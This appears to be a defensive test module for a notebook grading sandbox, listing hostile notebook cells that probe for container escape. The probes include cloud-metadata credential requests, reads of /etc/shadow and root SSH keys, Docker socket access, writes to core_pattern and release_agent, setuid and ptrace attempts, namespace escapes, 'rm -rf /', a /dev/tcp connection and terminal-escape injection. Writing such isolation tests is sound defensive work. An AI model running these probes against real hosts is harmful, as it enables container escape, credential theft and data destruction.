"""Notebooks that want out: to the network, the host, the engine, or another user's rights."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from tests.docker.hostile.case import CRASHED, SUSPICIOUS, Hostile

if TYPE_CHECKING:
    from shared.gradebook.queries import RecordedRun

_DAEMON: Final = """
import signal, subprocess, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        while True:
            time.sleep(60)
    os._exit(0)
subprocess.Popen(
    [sys.executable, "-c", "import time\\nwhile True: time.sleep(60)"], start_new_session=True
)
gained = []
"""

_BY_NAME: Final = """
import socket, urllib.request
gained = []
for name in ("example.org", "metadata.google.internal", "host.docker.internal", "gateway"):
    with contextlib.suppress(OSError):
        gained.append(socket.getaddrinfo(name, 80))
    with contextlib.suppress(OSError):
        gained.append(urllib.request.urlopen(f"http://{name}/", timeout=2).read())
"""

_BY_ADDRESS: Final = """
import socket
gained = []
for address in (
    ("1.1.1.1", 53), ("172.17.0.1", 22), ("172.17.0.1", PORT), ("127.0.0.1", PORT),
    ("10.0.0.1", 80), ("192.168.0.1", 80), ("0.0.0.0", PORT), ("::1", PORT),
    ("2606:4700:4700::1111", 53),
):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
        with contextlib.suppress(OSError), socket.socket(family, kind) as there:
            there.settimeout(2)
            there.connect(address)
            there.send(b"hello")
            if kind == socket.SOCK_STREAM or there.recv(1):
                gained.append(address)
for family in (socket.AF_PACKET, socket.AF_INET):
    with contextlib.suppress(OSError):
        gained.append(repr(socket.socket(family, socket.SOCK_RAW, 1)))
interfaces = [name for _, name in socket.if_nameindex()]
if interfaces != ["lo"]:
    gained.append(interfaces)
"""

_CLOUD_METADATA: Final = """
import urllib.request
gained = []
for url in (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/",
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
):
    request = urllib.request.Request(url, headers={"Metadata-Flavor": "Google"})
    with contextlib.suppress(OSError):
        gained.append(urllib.request.urlopen(request, timeout=2).read())
"""

_ENGINE: Final = """
import glob, socket
gained = []
paths = {
    "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
    "/run/podman/podman.sock", "/var/run/crio/crio.sock", "/proc/1/root/var/run/docker.sock",
    *glob.glob("/run/**/*.sock", recursive=True), *glob.glob("/var/run/**/*.sock", recursive=True),
}
for path in paths:
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as there:
        there.settimeout(2)
        there.connect(path)
        gained.append(path)
for host in ("127.0.0.1", "172.17.0.1"):
    for port in (2375, 2376, 4243, 10250):
        with contextlib.suppress(OSError):
            socket.create_connection((host, port), timeout=2)
            gained.append((host, port))
names = open("/proc/net/unix").read()
if "docker" in names or "containerd" in names:
    gained.append(names)
"""

_HOST_FILES: Final = """
gained = []
prefixes = ("", "/proc/1/root", "/proc/self/root", "/proc/1/cwd/..", "/host", "/mnt", "/.." * 9)
for prefix in prefixes:
    for path in (CANARY, "/etc/shadow", "/root/.ssh/id_rsa", "/root/.docker/config.json",
                 "/var/lib/docker/containers", "/var/run/secrets", "/run/secrets",
                 "/home/jovyan", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/dev/sda"):
        with contextlib.suppress(OSError):
            found = os.listdir(prefix + path) if os.path.isdir(prefix + path) else open(
                prefix + path, "rb").read(4096)
            if found:
                gained.append((prefix + path, found))
here = open("/proc/self/mountinfo").read()
if os.path.dirname(CANARY) in here:
    gained.append(here)
"""

_KERNEL_FILES: Final = """
import stat
gained = []
inside = {f"/proc/{name}" for name in os.listdir("/proc") if name.isdigit()}
inside |= {"/proc/self", "/proc/thread-self"}
for top in ("/proc", "/sys"):
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in inside]
        for name in files:
            path = os.path.join(folder, name)
            try:
                descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            # the engine puts /dev/null over some; pressure is what anybody may ask to be told of
            is_null = stat.S_ISCHR(os.fstat(descriptor).st_mode)
            if not is_null and folder != "/proc/pressure":
                gained.append(path)
            os.close(descriptor)
for path, text in (
    ("/proc/sys/kernel/core_pattern", "|/tmp/x"), ("/proc/sysrq-trigger", "b"),
    ("/sys/kernel/uevent_helper", "/tmp/x"), ("/proc/1/oom_score_adj", "-1000"),
    ("/proc/self/oom_score_adj", "-1000"), ("/sys/fs/cgroup/release_agent", "/tmp/x"),
    ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1"), ("/sys/fs/cgroup/memory.max", "max"),
    ("/sys/fs/cgroup/pids/pids.max", "max"), ("/sys/fs/cgroup/pids.max", "max"),
    ("/proc/self/uid_map", "0 0 1"), ("/proc/self/mem", ""), ("/proc/sys/vm/drop_caches", "3"),
):
    with contextlib.suppress(OSError), open(path, "w") as file:
        file.write(text)
        file.flush()
        if text:
            gained.append(path)
"""

_SETUID: Final = """
import shutil, subprocess, time
gained = []
programs = subprocess.run(
    ["find", "/", "-xdev", "-type", "f", "-perm", "/6000"],
    stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
).stdout.split()
own = "/tmp/own-id"
shutil.copy("/usr/bin/id", own)
os.chmod(own, 0o6777)
tries = [[path, "-c", "id"] for path in programs]
tries += [[own], ["su", "-c", "id"], ["sudo", "-n", "id"], ["newgrp", "root"], ["chfn", "-f", "x"]]
started = []
for command in tries:
    with contextlib.suppress(OSError):
        started.append(subprocess.Popen(
            command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
            text=True,
        ))
time.sleep(3)
for process in started:
    process.kill()
    said = process.communicate()[0]
    if "uid=0" in said or "euid=" in said or "(root)" in said:
        gained.append((process.args, said))
if not started:
    gained.append("there was no program, so nothing was tried")
for become in (os.setuid, os.setgid, os.seteuid):
    with contextlib.suppress(OSError):
        become(0)
        gained.append(become.__name__)
"""

_PTRACE: Final = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
gained = []
harness = [
    int(pid) for pid in os.listdir("/proc")
    # a kernel is forked from the harness and named like it; itself it may trace
    if pid.isdigit() and int(pid) != os.getpid()
    and b"harness" in open(f"/proc/{pid}/cmdline", "rb").read()
]
if 1 not in harness or len(harness) < 2:
    gained.append("the harness was not found, so nothing was tried")

class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

for pid in harness:
    for request in (16, 0x4206):  # ATTACH, SEIZE
        if libc.ptrace(request, pid, None, None) == 0:
            gained.append(("ptrace", pid, request))
    room = ctypes.create_string_buffer(16)
    ours, theirs = Piece(ctypes.addressof(room), 16), Piece(0x400000, 16)
    libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    if ctypes.get_errno() != 1:  # anything else than EPERM was allowed, only not found
        gained.append(("process_vm_readv", pid, ctypes.get_errno()))
    for name in ("mem", "environ", "maps", "auxv", "syscall", "stack", "fd", "map_files", "cwd"):
        path = f"/proc/{pid}/{name}"
        with contextlib.suppress(OSError):
            os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1)
            gained.append(path)
"""

_NAMESPACES: Final = """
import ctypes, stat
libc = ctypes.CDLL(None, use_errno=True)
gained = []
flags = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000,
         "ipc": 0x08000000, "uts": 0x04000000, "cgroup": 0x02000000,
         "user and mount": 0x10020000}
for name, flag in flags.items():
    if os.fork() == 0:
        os._exit(0 if libc.unshare(flag) == 0 else 1)
    if os.wait()[1] == 0:
        gained.append(("unshare", name))
for kind, source, target in (
    (b"tmpfs", b"none", b"/mnt"), (b"proc", b"proc", b"/tmp"), (b"cgroup", b"none", b"/tmp"),
    (b"overlay", b"overlay", b"/tmp"),
):
    if libc.mount(source, target, kind, 0, None) == 0:
        gained.append(("mount", kind))
for flag in (4096, 32, 32 | 4096):  # bind, remount
    if libc.mount(b"/", b"/tmp", None, flag, None) == 0:
        gained.append(("mount", flag))
for space in ("mnt", "net", "pid", "user"):
    with contextlib.suppress(OSError):
        descriptor = os.open(f"/proc/1/ns/{space}", os.O_RDONLY)
        if libc.setns(descriptor, 0) == 0:
            gained.append(("setns", space))
for name, action in (
    ("chroot", lambda: os.chroot("/tmp")),
    ("mknod", lambda: os.mknod("/tmp/disk", 0o666 | stat.S_IFBLK, os.makedev(8, 0))),
    ("sethostname", lambda: __import__("socket").sethostname("x")),
    ("nice", lambda: os.nice(-5)),
):
    with contextlib.suppress(OSError):
        action()
        gained.append(name)
if libc.reboot(0x01234567) == 0 or libc.umount2(b"/tmp", 2) == 0 or libc.swapoff(b"/x") == 0:
    gained.append("administration")
"""

_SHELLS: Final = """
found = !cat {CANARY} /etc/shadow /var/run/docker.sock 2>/dev/null; id -u; env
gained = [line for line in found if SECRET[::-1] in line or line == "0" or "LTI" in line]
!kill -9 1
!(sleep 600 &)
"""
_BASH: Final = """\
%%bash --bg
cat /proc/1/environ
nohup sleep 600 &
exec 3<>/dev/tcp/169.254.169.254/80 && echo reached
while true; do :; done
"""

_TERMINAL: Final = r"""
import sys
evil = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x00\x9b2J\u202e"
print(evil)
print(evil, file=sys.stderr)
os.write(2, evil.encode() * 10)
class Evil(Exception):
    pass
Evil.__name__ = evil.replace("\x00", "")
gained = []
raise Evil(evil)
"""

_TERMINAL_IN_RESULTS: Final = r"""
import pickle
evil = "\x1b]0;owned\x07\x1b[2J\x9b\u202eForged line:\r all is well."
def dump(content, file):
    name = evil.encode()
    file.write(b"\x80\x04\x8c" + bytes([len(name)]) + name + b"\x8c\x01x\x93.")
pickle.dump = dump
"""


def _no_control_characters(run: RecordedRun) -> None:
    """What people are shown of a run is text."""
    for text in (run.student_text, run.staff_text, *run.flags):
        assert text.replace("\n", "").isprintable(), repr(text)


def _quotes_the_escapes_as_text(run: RecordedRun) -> None:
    assert "all is well" in run.staff_text
    _no_control_characters(run)


CONTAINMENT: Final = {
    "a child that outlives the run": Hostile((_DAEMON,)),
    "the network by name": Hostile((_BY_NAME,)),
    "the network by address": Hostile((_BY_ADDRESS,)),
    "the cloud's metadata": Hostile((_CLOUD_METADATA,)),
    "the engine's socket": Hostile((_ENGINE,), flags=SUSPICIOUS),
    "files of the host": Hostile((_HOST_FILES,), flags=SUSPICIOUS),
    "writing in /proc and /sys": Hostile((_KERNEL_FILES,), flags=SUSPICIOUS),
    "set-uid programs": Hostile((_SETUID,)),
    "tracing the harness": Hostile((_PTRACE,), flags=SUSPICIOUS),
    "namespaces and mounts": Hostile((_NAMESPACES,), flags=SUSPICIOUS),
    "shell escapes": Hostile((_SHELLS, _BASH), flags=SUSPICIOUS),
    "a kernel that is not Python": Hostile(
        ("gained = []",),
        metadata={
            "kernelspec": {"name": "../../../tmp/evil", "display_name": "R", "language": "R"},
            "language_info": {"name": "R", "codemirror_mode": {"name": "x", "version": 1}},
        },
    ),
    "everything removed": Hostile(("!rm -rf / --no-preserve-root 2>/dev/null",), verdicts=CRASHED),
    "terminal escapes in output": Hostile((_TERMINAL,), look=_no_control_characters),
    "terminal escapes in results": Hostile(
        (_TERMINAL_IN_RESULTS,), verdicts=CRASHED, look=_quotes_the_escapes_as_text
    ),
}
